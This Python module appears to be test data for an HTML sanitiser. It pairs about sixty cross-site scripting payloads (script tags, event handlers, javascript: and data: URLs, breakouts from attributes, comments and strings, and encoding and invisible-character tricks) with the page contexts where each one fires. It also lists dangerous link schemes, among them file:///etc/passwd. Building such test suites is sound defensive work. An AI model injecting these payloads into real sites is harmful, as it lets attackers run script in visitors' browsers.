"""What runs a script where somebody pastes it into a page: each text, and the place in which it does."""

from __future__ import annotations

import html
import unicodedata
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import unquote

if TYPE_CHECKING:
    from collections.abc import Callable

_JAVASCRIPT = "javascript:alert(1)"

# A page that pastes; what is in it may be pressed.
PLACES = {
    "text": "<p>{}</p>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "option": "<select><option>{}</option></select>",
    "comment": "<!-- {} -->",
    "style": "<style>p::before {{ content: '{}' }}</style>",
    "foreign": "<svg><![CDATA[{}]]></svg>",
    "quoted": '<input value="{}">',
    "apostrophes": "<input value='{}'>",
    "bare": "<input value={}>",
    "string": "<script>const typed = '{}'</script>",
    "template": "<script>const typed = `{}`</script>",
    "written": "<script>document.write('{}')</script>",
    "link": '<a href="{}">press</a>',
}


class Payload(NamedTuple):
    """A text that means harm, the place where it does, and what a careless page does to it first."""

    text: str
    place: str = "text"
    careless: Callable[[str], str] = str

    @property
    def page(self) -> str:
        """A page that pastes it."""
        return f"<!doctype html><meta charset=utf-8>{PLACES[self.place].format(self.careless(self.text))}"


def _compatible(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def _seen(text: str) -> str:
    """Return a text without the characters that nobody sees."""
    return "".join(letter for letter in text if unicodedata.category(letter) != "Cf")


PAYLOADS = {
    "script": Payload("<script>alert(1)</script>"),
    "mixed case": Payload("<ScRiPt>alert(1)</sCrIpT>"),
    "space in the tag": Payload("<script >alert(1)</script >"),
    "slash in the tag": Payload("<script/x>alert(1)</script>"),
    "script from data": Payload("<script src=data:,alert(1)></script>"),
    "image": Payload("<img src=x onerror=alert(1)>"),
    "image with slashes": Payload('<img/src="x"/onerror=alert(1)>'),
    "image with references": Payload('<img src=x onerror="alert&#40;1&#41;">'),
    "image that never ends": Payload("<IMG SRC=x ONERROR=alert(1)//"),
    "template string": Payload("<img src=x onerror=alert`1`>"),
    "drawing": Payload("<svg onload=alert(1)>"),
    "drawing with a slash": Payload("<svg/onload=alert(1)>"),
    "drawing with a script": Payload("<svg><script>alert(1)</script></svg>"),
    "drawing that moves": Payload("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    "drawing that sets": Payload("<svg><set onbegin=alert(1) attributeName=x to=1>"),
    "formula": Payload("<math><mtext><script>alert(1)</script></mtext></math>"),
    "body": Payload("<body onload=alert(1)>"),
    "frame": Payload(f'<iframe src="{_JAVASCRIPT}"></iframe>'),
    "frame with a page": Payload('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "frame that loads": Payload("<iframe onload=alert(1)></iframe>"),
    "object": Payload("<object data=x onerror=alert(1)></object>"),
    "video": Payload("<video src=x onerror=alert(1)></video>"),
    "video with a source": Payload("<video><source src=x onerror=alert(1)></video>"),
    "audio": Payload("<audio src=x onerror=alert(1)></audio>"),
    "details": Payload("<details open ontoggle=alert(1)>"),
    "box": Payload("<input autofocus onfocus=alert(1)>"),
    "choice": Payload("<select autofocus onfocus=alert(1)></select>"),
    "editable": Payload("<b contenteditable autofocus onfocus=alert(1)>x</b>"),
    "style that loads": Payload("<style onload=alert(1)></style>"),
    "sheet": Payload("<link rel=stylesheet href=x onerror=alert(1)>"),
    "animation": Payload("<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=alert(1)>x</b>"),
    "no script": Payload('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    "link to press": Payload(f'<a href="{_JAVASCRIPT}">x</a>'),
    "button to press": Payload(f'<form><button formaction="{_JAVASCRIPT}">x</button></form>'),
    "form to send": Payload(f'<form action="{_JAVASCRIPT}"><button>x</button></form>'),
    "written from right to left": Payload("\u202e<script>alert(1)</script>\u202c"),
    "end of a title": Payload("</title><script>alert(1)</script>", "title"),
    "end of a text box": Payload("</textarea><script>alert(1)</script>", "textarea"),
    "end of a choice": Payload("</option></select><img src=x onerror=alert(1)>", "option"),
    "end of a comment": Payload("--><script>alert(1)</script>", "comment"),
    "end of a style": Payload("</style><script>alert(1)</script>", "style"),
    "end of a section": Payload("]]></svg><script>alert(1)</script>", "foreign"),
    "end of quotes": Payload('"><script>alert(1)</script>', "quoted"),
    "end of quotes, and an attribute": Payload('" autofocus onfocus=alert(1) x="', "quoted"),
    "end of apostrophes": Payload("'><svg onload=alert(1)>", "apostrophes"),
    "end of apostrophes, and an attribute": Payload("' autofocus onfocus='alert(1)", "apostrophes"),
    "attribute": Payload("x autofocus onfocus=alert(1)", "bare"),
    "end of a script": Payload("</script><script>alert(1)</script>", "string"),
    "end of a string": Payload("'; alert(1); '", "string"),
    "end of a string, by a sum": Payload("'-alert(1)-'", "string"),
    "value in a string": Payload("${alert(1)}", "template"),
    "escapes of JSON": Payload("\\u003cimg src=x onerror=alert(1)\\u003e", "written"),
    "address": Payload(_JAVASCRIPT, "link"),
    "address in mixed case": Payload("JaVaScRiPt:alert(1)", "link"),
    "address with a tab": Payload("java\tscript:alert(1)", "link"),
    "address with a control character": Payload("\x01javascript:alert(1)", "link"),
    "address with a host": Payload("javascript://example.org/%0aalert(1)", "link"),
    "address with references": Payload("&#106;avascript&colon;alert(1)", "link"),
    "references": Payload("&lt;img src=x onerror=alert(1)&gt;", careless=html.unescape),
    "escapes of addresses": Payload("%3Cimg src=x onerror=alert(1)%3E", careless=unquote),
    "wide letters": Payload("＜img src=x onerror=alert(1)＞", careless=_compatible),
    "letters of no width": Payload("<scr\u200bipt>alert(1)</scr\u200bipt>", careless=_seen),
}

# What may be no link, whether or not a browser follows it.
ADDRESSES = (
    _JAVASCRIPT,
    "JAVASCRIPT:alert(1)//https://example.org/",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "view-source:https://example.org/",
    "ftp://example.org/a",
)
